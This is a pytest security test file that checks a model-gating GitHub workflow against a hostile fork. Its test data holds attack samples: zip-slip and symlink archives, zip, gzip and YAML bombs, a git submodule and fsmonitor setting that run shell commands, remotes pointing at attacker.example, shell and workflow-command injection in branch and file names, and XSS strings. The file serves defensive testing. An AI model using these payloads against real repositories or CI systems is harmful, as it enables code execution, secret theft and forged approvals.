"""A fork that attacks: whatever it commits, calls things, and leaves behind, its worse model gets no pass, nobody else an answer, and
no secret out.

The commands run as the steps of `model-comment.yml` do, with secrets and a token that writes. Each attack is on a pull request whose
honest verdict is no.
"""

from __future__ import annotations

import gzip
import io
import json
import re
import stat
import struct
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from modelship.core.records import RECORDS
from modelship.reporting.markdown import marker
from tests.e2e.github import STRANGER
from tests.forks import (
    CANARIES,
    CHECK,
    WORSE,
    Answered,
    Artifact,
    Proposed,
    Upstream,
    edit_record,
    named,
    zipped,
)

SLOPE = WORSE["params.yaml"]
MARK = marker("flight-delay")
HOSTILE_TEXT = (
    f"x\n{MARK}\n::set-output name=status::pass\n::add-mask::passes\n##[set-output name=status]pass\n@mona <img src=x> "
    "| a | b |\n\n```\n````\n## 🟢 flight-delay: fine\nstatus=pass\nstatus<<EOF\npass\nEOF"
)


@pytest.fixture(scope="module")
def upstream(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Upstream]:
    upstream = Upstream.start(tmp_path_factory.mktemp("upstream"))
    try:
        yield upstream
    finally:
        upstream.stop()


@pytest.fixture(scope="module")
def worse(upstream: Upstream) -> Proposed:
    """The pull request whose run leaves all the evidence below. It has a comment that says no."""
    proposed = upstream.propose()
    assert proposed.answer(proposed.finished(named(proposed.evidence()))).conclusion == "failure"
    return proposed


def outside_of_code(body: str) -> str:
    """A comment without its blocks of code, in which GitHub shows everything as it is."""
    kept, fence = [], ""
    for line in body.splitlines():
        found = re.match(r" {0,3}(`{3,})(.*)", line)
        if not fence and found:
            fence = found[1]
        elif fence and found and len(found[1]) >= len(fence) and not found[2].strip():
            fence = ""
        elif not fence:
            kept.append(line)
    assert not fence, "a block of code that does not end"
    return "\n".join(kept)


def assert_beaten(proposed: Proposed, answered: Answered) -> None:
    """No pass, one comment that says so, nothing on another pull request, no secret, no command to the runner."""
    assert "Traceback" not in answered.log, answered.log
    assert answered.conclusion == "failure", answered.log
    (comment,) = answered.ours
    assert comment.body.startswith("## 🔴 flight-delay: "), comment.body
    assert comment.body.count(MARK) == 1
    assert "@mona" not in outside_of_code(comment.body)
    assert "<img" not in outside_of_code(comment.body)
    assert "\n## 🟢" not in outside_of_code(comment.body)
    assert {check.name for check in answered.checks} == {CHECK}
    assert answered.status in ("fail", "error")
    assert_nothing_leaked(proposed, answered)


def assert_not_taken(proposed: Proposed, answered: Answered) -> None:
    """The pull request is known, and there is no evidence on it. What is said of that then, `test_fork_evidence` shows."""
    found = answered.steps["fork-evidence"]
    assert found.exit_code == 0, found.log
    assert answered.pull_request["number"] == proposed.pull.number
    assert "evidence-digest" not in found.outputs
    assert not answered.evidence.exists()
    assert_nothing_leaked(proposed, answered)


def assert_nothing_leaked(proposed: Proposed, answered: Answered) -> None:
    """Nothing on another pull request, no secret, no command to the runner that is not ours."""
    upstream = proposed.upstream
    assert upstream.server.comments(upstream.bystander.number) == []
    assert upstream.server.check_runs(upstream.repository.tip("bystander")) == []
    assert upstream.server.check_runs(upstream.repository.tip("main")) == []
    public = answered.written + "".join(comment.body for comment in answered.comments) + str(answered.checks)
    for canary in CANARIES.values():
        assert canary.rpartition("=")[2] not in public
    assert not [token for token in upstream.server.door.installation_tokens if token in public]
    commands = re.findall(r"(?m)^\s*(::[^:]*::|##\[[^]]*\])", answered.log.replace("\r", "\n"))
    assert [
        one for one in commands if not re.match(r"::(error|warning|notice|group|endgroup|stop-commands|[0-9a-f]{32})\b", one)
    ] == []
    for ran in answered.steps.values():
        assert set(ran.outputs) <= {
            "pull-request", "head", "evidence-digest", "status", "summary", "record", "record-digest", "run-directory", "baseline",
            "conclusion", "comment-url", "check-run-url", "report", "model",
        }  # fmt: skip


# What the run leaves: archives ---------------------------------------------------------------------------------------------------


def _entry(name: str, content: bytes = b"x", mode: int = 0) -> Callable[[zipfile.ZipFile], None]:
    def add(archive: zipfile.ZipFile) -> None:
        info = zipfile.ZipInfo(name)
        info.external_attr = mode << 16
        archive.writestr(info, content)

    return add


def _many(count: int) -> Callable[[zipfile.ZipFile], None]:
    def add(archive: zipfile.ZipFile) -> None:
        for number in range(count):
            archive.writestr(f"files/{number}.csv", b"")

    return add


def _zeros(archive: zipfile.ZipFile) -> None:
    for number in range(6):
        archive.writestr(f"files/{number}.csv", bytes(100 * 1024**2), zipfile.ZIP_DEFLATED, compresslevel=1)


def _understated(packed: bytes) -> bytes:
    """The last entry's size as 1 byte in the directory, which is what readers believe."""
    at = packed.rindex(b"PK\x01\x02")
    return packed[: at + 24] + struct.pack("<L", 1) + packed[at + 28 :]


def _encrypted(packed: bytes) -> bytes:
    at = packed.rindex(b"PK\x01\x02")
    return packed[: at + 8] + b"\x01\x00" + packed[at + 10 :]


def _twice(archive: zipfile.ZipFile) -> None:
    forged = archive.read("train.json").replace(b'"status":"pass"', b'"status":"warn"')
    archive.writestr("train.json", forged)


SLIP: dict[str, Callable[[Path], bytes]] = {
    "a path upwards": lambda folder: zipped(folder, _entry("../../slipped")),
    "a path upwards in the middle": lambda folder: zipped(folder, _entry("files/../../../slipped")),
    "an absolute path": lambda folder: zipped(folder, _entry("/tmp/modelship-slipped")),
    "a path as Windows writes it": lambda folder: zipped(folder, _entry("..\\..\\slipped")),
    "a link": lambda folder: zipped(folder, _entry("files/predictions.csv", b"/etc/passwd", stat.S_IFLNK | 0o777)),
    "a link as a folder": lambda folder: zipped(folder, _entry("deeper", b"/tmp", stat.S_IFLNK | 0o777)),
    "a device": lambda folder: zipped(folder, _entry("device", b"", stat.S_IFCHR | 0o666)),
    "a file as a folder": lambda folder: zipped(folder, _entry("train.json/more")),
    "a name twice": lambda folder: zipped(folder, _twice),
    "more files than evidence has": lambda folder: zipped(folder, _many(250)),
    "many thousand files": lambda folder: zipped(folder, _many(30_000)),
    "a bomb": lambda folder: zipped(folder, _zeros),
    "a size that is not true": lambda folder: _understated(zipped(folder)),
    "an encrypted file": lambda folder: _encrypted(zipped(folder)),
    "something before it": lambda folder: b"#!/bin/sh\n" + zipped(folder),
    "something after it": lambda folder: zipped(folder) + b"PK",
    "no archive": lambda folder: b"<html>not found</html>",
    "nothing": lambda folder: b"",
    "half of an archive": lambda folder: zipped(folder)[:-100],
}


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("attack", SLIP)
def test_an_archive_that_is_not_plain_is_no_evidence(worse: Proposed, attack: str) -> None:
    folder = worse.evidence()
    found = worse.find(worse.finished(named(folder, SLIP[attack](folder))))
    assert_not_taken(worse, found)
    assert not list(worse.upstream.folder.rglob("*slipped*"))
    assert not Path("/tmp/modelship-slipped").exists()


def test_an_archive_that_is_said_to_be_huge_is_not_fetched(worse: Proposed) -> None:
    folder = worse.evidence()
    run = worse.finished(named(folder, size=600 * 1024**2))
    before = len(worse.upstream.server.door.requests)
    assert_not_taken(worse, worse.find(run))
    assert not [request.path for request in worse.upstream.server.door.requests[before:] if request.path.endswith("/zip")]


def _renamed(folder: Path, name: str) -> list[Artifact]:
    return [Artifact(name, zipped(folder))]


def _of_honest_training(folder: Path) -> str:
    return named(folder).name


NAMES: dict[str, Callable[[Path], list[Artifact]]] = {
    "the digest of something else": lambda folder: _renamed(folder, f"modelship-evidence-{'0' * 64}"),
    "a longer name": lambda folder: _renamed(folder, f"{_of_honest_training(folder)}-2"),
    "a name with a line break": lambda folder: _renamed(folder, f"{_of_honest_training(folder)}\n::set-output name=status::pass"),
    "a name that leads upwards": lambda folder: _renamed(folder, f"../{_of_honest_training(folder)}"),
    "the number of another pull request": lambda folder: [
        Artifact("pr_number", zipped(folder)),
        Artifact("modelship-pull-request", b""),
    ],
    "sixty of them": lambda folder: [Artifact(f"modelship-evidence-{number:064x}", b"") for number in range(60)],
}


@pytest.mark.parametrize("attack", NAMES)
def test_a_name_promises_the_content_or_nothing(worse: Proposed, attack: str) -> None:
    assert_not_taken(worse, worse.find(worse.finished(*NAMES[attack](worse.evidence()))))


def test_two_runs_of_training_that_disagree_are_none(worse: Proposed) -> None:
    better = worse.evidence()
    edit_record(better, "train", lambda record: record["metrics"].update(accuracy=0.99, log_loss=0.01))
    answered = worse.answer(worse.finished(named(worse.evidence()), named(better)))
    assert_beaten(worse, answered)
    assert "several artifacts" in answered.log


# What the run leaves: records ----------------------------------------------------------------------------------------------------


def _records(change: Callable[[dict[str, Any]], None]) -> Callable[[Path], None]:
    return lambda folder: edit_record(folder, "train", change)


def _raw(change: Callable[[str], str | bytes]) -> Callable[[Path], None]:
    def edit(folder: Path) -> None:
        path = folder / "train.json"
        changed = change(path.read_text())
        path.write_bytes(changed.encode() if isinstance(changed, str) else changed)

    return edit


def _forged_verdict(folder: Path) -> None:
    record = {"record": "metric-gate/1", "model": "flight-delay", "status": "pass", "summary": "all is well", "baseline": None}
    (folder / "metric-gate.json").write_text(json.dumps(record))


def _predictions(change: Callable[[list[str]], list[str]]) -> Callable[[Path], None]:
    """Edit the lines of the predictions, and report what follows from them nowhere."""

    def edit(folder: Path) -> None:
        path = folder / "files" / "predictions.csv"
        path.write_text("\n".join([*change(path.read_text().splitlines()), ""]))

    return edit


def _other_truth(lines: list[str]) -> list[str]:
    title, *rows = lines
    return [title, *(",".join([key, guess, guess, *rest]) for key, _, guess, *rest in (row.split(",") for row in rows))]


def _called(name: str, content: bytes) -> Callable[[Path], None]:
    """Another predictions file in the place of the one that training wrote."""

    def edit(folder: Path) -> None:
        (folder / "files" / "predictions.csv").unlink()
        (folder / "files" / name).write_bytes(content)
        edit_record(folder, "train", lambda record: record["predictions"].update(path=name))

    return edit


def _parquet(rows: int) -> bytes:
    """One long text for every row: a small file that would fill the memory if it were unpacked."""
    table = pa.table(
        {"flight_id": pa.array(range(rows)), "truth": pa.DictionaryArray.from_arrays(pa.array([0] * rows), ["x" * 1_000_000])}
    )
    written = io.BytesIO()
    pq.write_table(table, written)
    return written.getvalue()


RECORD: dict[str, Callable[[Path], None]] = {
    "a verdict of its own": _forged_verdict,
    "another commit": _records(lambda record: record.update(commit="1" * 40)),
    "no commit": _records(lambda record: record.update(commit=None)),
    "another model": _records(lambda record: record.update(model="another")),
    "no model": _records(lambda record: record.update(model="")),
    "better metrics than its predictions": _records(lambda record: record["metrics"].update(accuracy=0.99, log_loss=0.01)),
    "metrics that are no numbers": _raw(lambda text: text.replace('"accuracy":', '"accuracy":NaN,"was":')),
    "metrics that are infinite": _raw(lambda text: re.sub(r'"accuracy":\s*[0-9.]+', '"accuracy":1e999', text)),
    "no metrics and no predictions": _records(lambda record: record.update(metrics={}, predictions=None)),
    "a key twice": _raw(lambda text: text.replace('"status"', '"status":"fail","status"', 1) + "\n"),
    "a key that nobody knows": _records(lambda record: record.update(verdict="pass")),
    "a key of another type": _records(lambda record: record.update(metrics=[0.99])),
    "another kind of record": _records(lambda record: record.update(record="metric-gate/1")),
    "no JSON": _raw(lambda text: text[: len(text) // 2]),
    "no text": _raw(lambda text: b"\xff\xfe" + text.encode("utf-16-le")),
    "brackets without end": _raw(lambda text: "[" * 1_000_000),
    "five megabytes": _raw(lambda text: text[:-1] + " " * 5_000_000 + "}"),
    "labels that fit its answers": _predictions(_other_truth),
    "the easy rows alone": _predictions(lambda lines: lines[:500]),
    "rows twice": _predictions(lambda lines: [*lines, *lines[1:]]),
    "scores that are no numbers": _predictions(lambda lines: [lines[0], *(re.sub(r"0\.5,", "nan,", line) for line in lines[1:])]),
    "predictions from elsewhere": _records(lambda record: record["predictions"].update(path="../../../../../../etc/passwd")),
    "Parquet that fills the memory": _called("predictions.parquet", _parquet(20_000)),
    "Parquet that is none": _called("predictions.parquet", b"PAR1" + b"\xff" * 1000 + b"PAR1"),
    "a table that unpacks to gigabytes": _called(
        "predictions.csv.gz", gzip.compress(b"flight_id,truth,prediction,score\n" + bytes(64 * 1024**2)) * 20
    ),
}


@pytest.mark.parametrize("attack", RECORD)
def test_a_forged_record_is_no_pass(worse: Proposed, attack: str) -> None:
    folder = worse.evidence()
    RECORD[attack](folder)
    assert_beaten(worse, worse.answer(worse.finished(named(folder))))


def test_text_of_a_record_is_text(worse: Proposed) -> None:
    folder = worse.evidence()
    hostile: dict[str, Any] = {
        "status": "error", "summary": HOSTILE_TEXT, "notices": [HOSTILE_TEXT], "command": HOSTILE_TEXT, "log_tail": [HOSTILE_TEXT],
        "problems": [{"message": HOSTILE_TEXT, "remedy": HOSTILE_TEXT, "path": HOSTILE_TEXT}], "mlflow-url": "javascript:alert(1)",
    }  # fmt: skip
    edit_record(folder, "train", lambda record: record.update({name.replace("_", "-"): value for name, value in hostile.items()}))
    assert_beaten(worse, worse.answer(worse.finished(named(folder))))


@pytest.mark.parametrize("name", ["params", "packages", "metrics", "invalid-metrics"])
def test_names_in_a_record_are_text(worse: Proposed, name: str) -> None:
    folder = worse.evidence()
    value: Any = 0.5 if name == "metrics" else HOSTILE_TEXT
    edit_record(folder, "train", lambda record: record[name].update({HOSTILE_TEXT: value}))
    assert_beaten(worse, worse.answer(worse.finished(named(folder))))


def test_column_names_are_text(worse: Proposed) -> None:
    folder = worse.evidence()
    quoted = '"' + HOSTILE_TEXT.replace('"', "'") + '"'
    path = folder / "files" / "predictions.csv"
    title, *rows = path.read_text().splitlines()
    path.write_text("\n".join([f"{title},{quoted}", *(f"{row},{quoted}" for row in rows), ""]))
    assert_beaten(worse, worse.answer(worse.finished(named(folder))))


def test_records_of_other_commands_are_no_way_around(worse: Proposed) -> None:
    """Each of them may be there, none of them judges: least of all those that conclude."""
    folder = worse.evidence()
    for name in set(RECORDS) - {"train"}:
        text = json.dumps(
            {"record": RECORDS[name].__struct_config__.tag, "model": "flight-delay", "status": "pass", "summary": "fine"}
        )
        (folder / f"{name}.json").write_text(text)
    assert_beaten(worse, worse.answer(worse.finished(named(folder))))


# What the fork commits -----------------------------------------------------------------------------------------------------------


def _loosened(text: str) -> str:
    return text.replace("max-regression: 0.01", "max-regression: 0.9").replace("max-regression: 1%", "max-regression: 900%")


def _easier(text: str) -> str:
    title, *rows = text.splitlines()
    return "\n".join([title, *(f"{row[:-1]}1" for row in rows), ""])


BILLION_LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + level)}: &{chr(98 + level)} [{', '.join([f'*{chr(97 + level)}'] * 9)}]\n" for level in range(9)
)

COMMITS: dict[str, dict[str, Any]] = {
    "loosened limits": {"modelship.yaml": _loosened},
    "no limits": {"modelship.yaml": "model: flight-delay\ngate: {baseline: none, metrics: {accuracy: {min: 0}}}\n"},
    "another baseline": {"modelship.yaml": lambda text: text.replace("baseline: base", "baseline: file:mine.json"), "mine.json": "{}"},
    "another label, and anybody's word": {
        "modelship.yaml": lambda text: text.replace("gate:\n", "gate:\n  approval-label: bug\n  accept-regression: write\n")
    },
    "another model's name": {"modelship.yaml": lambda text: text.replace("model: flight-delay", "model: bystander", 1)},
    "a configuration that expands without end": {"modelship.yaml": BILLION_LAUGHS},
    "a configuration that is a link": {"modelship.yaml": Path("/etc/passwd")},
    "a configuration that is gone": {"modelship.yaml": None},
    "an easier holdout": {"holdout.csv": _easier},
    "a holdout behind a link": {"holdout.csv": Path("/proc/self/environ")},
    "a folder of records": {
        ".modelship/metric-gate.json": '{"record": "metric-gate/1", "model": "flight-delay", "status": "pass", "summary": "fine"}'
    },
    "a link in the place of the records": {".modelship": Path("../../..")},
    "a remote of its own": {
        ".dvc/config": "[core]\n    remote = mine\n['remote \"mine\"']\n    url = https://attacker.example/\n",
        ".dvc/.gitignore": "",
    },
    "attributes that name programs": {
        ".gitattributes": "* filter=own diff=own merge=own\n", ".lfsconfig": "[lfs]\nurl = https://attacker.example\n"
    },
    "a submodule that runs a program": {
        ".gitmodules": '[submodule "x"]\n path = x\n url = ext::sh -c touch% /tmp/modelship-slipped\n'
    },
    "a repository in a folder": {"HEAD": "ref: refs/heads/main\n", "config": "[core]\n fsmonitor = touch /tmp/modelship-slipped\n"},
    "a module that we would import": {"msgspec.py": "raise SystemExit(0)\n", "modelship/__init__.py": "raise SystemExit(0)\n"},
    "parameters that speak": {"params.yaml": f'{SLOPE}"{MARK} @mona": "<img src=x> ::set-output name=status::pass"\n'},
    "files whose names speak": {
        "::set-output name=status::pass": "x", "@mona <img src=x onerror=alert(1)>": "x", f"a\n{MARK}\n::add-mask::pass": "x",
        "`$(touch hacked)`;touch hacked": "x", "##[set-output name=status]pass": "x",
    },
    "its own requirements and workflow": {
        ".github/workflows/model.yml": "name: model\non: pull_request\njobs: {}\n", "requirements.txt": "x\n"
    },
}  # fmt: skip


@pytest.mark.parametrize("attack", COMMITS)
def test_what_the_fork_commits_changes_nothing_of_the_judge(upstream: Upstream, worse: Proposed, attack: str) -> None:
    proposed = upstream.propose({**WORSE, **COMMITS[attack]})
    folder = worse.evidence()
    edit_record(folder, "train", lambda record: record.update(commit=proposed.head))
    answered = proposed.answer(proposed.finished(named(folder)))
    assert_beaten(proposed, answered)
    assert answered.status == "fail", answered.log
    assert not Path("/tmp/modelship-slipped").exists()


def test_limits_that_are_loosened_are_told_first(upstream: Upstream, worse: Proposed) -> None:
    proposed = upstream.propose({**WORSE, "modelship.yaml": _loosened})
    folder = worse.evidence()
    edit_record(folder, "train", lambda record: record.update(commit=proposed.head))
    (comment,) = proposed.answer(proposed.finished(named(folder))).ours
    assert "max-regression 0.01 → 0.9" in comment.body


# What the fork is called, and what it says ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "branch",
    [
        "x$(touch${IFS}hacked)",
        "x`touch\u00a0hacked`",
        'x";exit;"',
        "x'||'",
        "main",
        "@mona",
        "x%0Astatus=pass",
        "{x}&state=all",
    ],
)
def test_a_branch_is_a_name(upstream: Upstream, worse: Proposed, branch: str) -> None:
    proposed = upstream.propose(branch=branch, title=HOSTILE_TEXT)
    folder = worse.evidence()
    edit_record(folder, "train", lambda record: record.update(commit=proposed.head))
    answered = proposed.answer(proposed.finished(named(folder)))
    assert_beaten(proposed, answered)
    assert answered.pull_request["number"] == proposed.pull.number
    assert not list(upstream.folder.rglob("hacked"))


def test_a_stranger_s_comment_with_our_marker_is_left_alone(upstream: Upstream, worse: Proposed) -> None:
    proposed = upstream.propose()
    forged = upstream.server.comment(proposed.pull.number, f"## 🟢 flight-delay: fine\n\n{MARK}", STRANGER)
    folder = worse.evidence()
    edit_record(folder, "train", lambda record: record.update(commit=proposed.head))
    answered = proposed.answer(proposed.finished(named(folder)))
    assert_beaten(proposed, answered)
    assert forged in answered.comments


@pytest.mark.parametrize("body", ["/accept-regression This is quite all right with me.", "/judge-again"])
def test_a_stranger_s_word_counts_for_nothing(worse: Proposed, body: str) -> None:
    worse.upstream.server.comment(worse.pull.number, body, STRANGER)
    assert_beaten(worse, worse.answer(worse.finished(named(worse.evidence()))))


def test_a_label_that_was_there_before_counts_for_nothing(upstream: Upstream, worse: Proposed) -> None:
    proposed = upstream.propose({**WORSE, "modelship.yaml": _loosened})
    upstream.server.set_label(proposed.pull.number, "modelship-approved")
    folder = worse.evidence()
    edit_record(folder, "train", lambda record: record.update(commit=proposed.head))
    assert_beaten(proposed, proposed.answer(proposed.finished(named(folder))))


@pytest.mark.parametrize("config", ["modelship.yaml\n::set-output name=status::pass", "../../etc/passwd", "-c", "\x1b[2J"])
def test_a_path_that_is_none_answers_nobody(worse: Proposed, config: str) -> None:
    before = worse.upstream.server.comments(worse.pull.number)
    answered = worse.answer(worse.finished(named(worse.evidence())), config=config)
    assert answered.steps["fork-evidence"].exit_code == 2
    assert answered.comments == before
    assert_nothing_leaked(worse, answered)


# What a caller could get wrong ---------------------------------------------------------------------------------------------------


TOLD = (
    '{"number": 1}', '{"number": "1", "head": "SHA", "base": "SHA"}', '{"number": 0, "head": "SHA", "base": "SHA"}',
    '{"number": 1, "head": "main", "base": "SHA"}', '{"number": 1, "head": "SHA\\n", "base": "SHA"}',
    '{"number": 1, "head": "SHA", "base": "SHA", "x": 1}', "7", "[]", "{", "null",
)  # fmt: skip


@pytest.mark.parametrize("told", TOLD)
def test_the_pull_request_is_told_exactly_or_not_at_all(worse: Proposed, told: str) -> None:
    project = worse.upstream.checkout()
    event = {"GITHUB_EVENT_NAME": "workflow_run", "GITHUB_REPOSITORY": "acme/flights", "GITHUB_SHA": "b" * 40}
    for command in ("metric-gate", "comment"):
        ran = project.run(command, "--pull-request", told.replace("SHA", "a" * 40), **event)
        assert ran.exit_code == 2, ran.log
        assert "`pull-request` is not what `fork-evidence` writes" in ran.log
